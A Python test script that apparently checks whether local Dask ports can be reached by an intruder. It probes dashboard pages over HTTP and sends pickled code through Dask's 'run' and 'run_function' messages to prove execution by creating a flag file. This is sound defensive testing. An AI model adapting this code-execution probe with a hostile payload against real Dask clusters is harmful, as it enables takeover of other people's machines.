"""What anybody who may open this machine's ports can try on Dask's: read, change, run code.

    python -m tests.runtime.intruder FLAG PORT...

Prints a line for each success; code that runs makes the file FLAG.
"""

import asyncio
import http.client
import os
import sys
from functools import partial
from pathlib import Path

from distributed.comm.core import connect
from distributed.protocol.pickle import dumps
from distributed.security import Security

PAGES = ("/", "/info/main/workers.html", "/json/counts.json", "/metrics", "/health", "/status", "/proxy/1/127.0.0.1/")
LONGEST = 60  # seconds, for what neither answers nor refuses
NOTHING = b'{"paths": ["/sitemap.json"]}'


async def call(protocol: str, port: int, messages: list[dict]) -> bool:
    """Whether there was a conversation."""
    security = Security.temporary()
    try:
        arguments = security.get_connection_args("client") if protocol == "tls" else {}
        comm = await connect(f"{protocol}://127.0.0.1:{port}", timeout=LONGEST, **arguments)
        for message in messages:
            await asyncio.wait_for(comm.write(message | {"reply": True}), LONGEST)
            answer = await asyncio.wait_for(comm.read(), LONGEST)
            print(port, protocol, message["op"], str(answer)[:200], flush=True)
    except (OSError, TimeoutError, ValueError):
        return False
    return True


async def talk(port: int, messages: list[dict]) -> None:
    await call("tcp", port, messages) or await call("tls", port, messages)


async def attack(flag: str, ports: list[int]) -> None:
    code = {"function": dumps(partial(Path(flag).touch)), "args": dumps(()), "kwargs": dumps({}), "wait": True}
    messages = [{"op": "identity"}, {"op": "run", **code}, {"op": "run_function", **code}]
    await asyncio.gather(*(talk(port, messages) for port in ports))
    os._exit(0)  # Dask may go on trying to connect for ever


def browse(port: int) -> bool:
    """Whether the port speaks HTTP."""
    for method in ("GET", "PUT", "POST"):
        for page in (*PAGES, "/sitemap.json"):
            connection = http.client.HTTPConnection("127.0.0.1", port, timeout=LONGEST)
            try:
                connection.request(method, page, body="{}")
                answer = connection.getresponse()
                content = answer.read()
            except (OSError, http.client.HTTPException):
                return False
            finally:
                connection.close()
            if answer.status not in (404, 405) and content != NOTHING:
                print(port, method, page, answer.status, flush=True)
    return True


if __name__ == "__main__":
    others = [port for port in map(int, sys.argv[2:]) if not browse(port)]
    asyncio.run(attack(sys.argv[1], others))
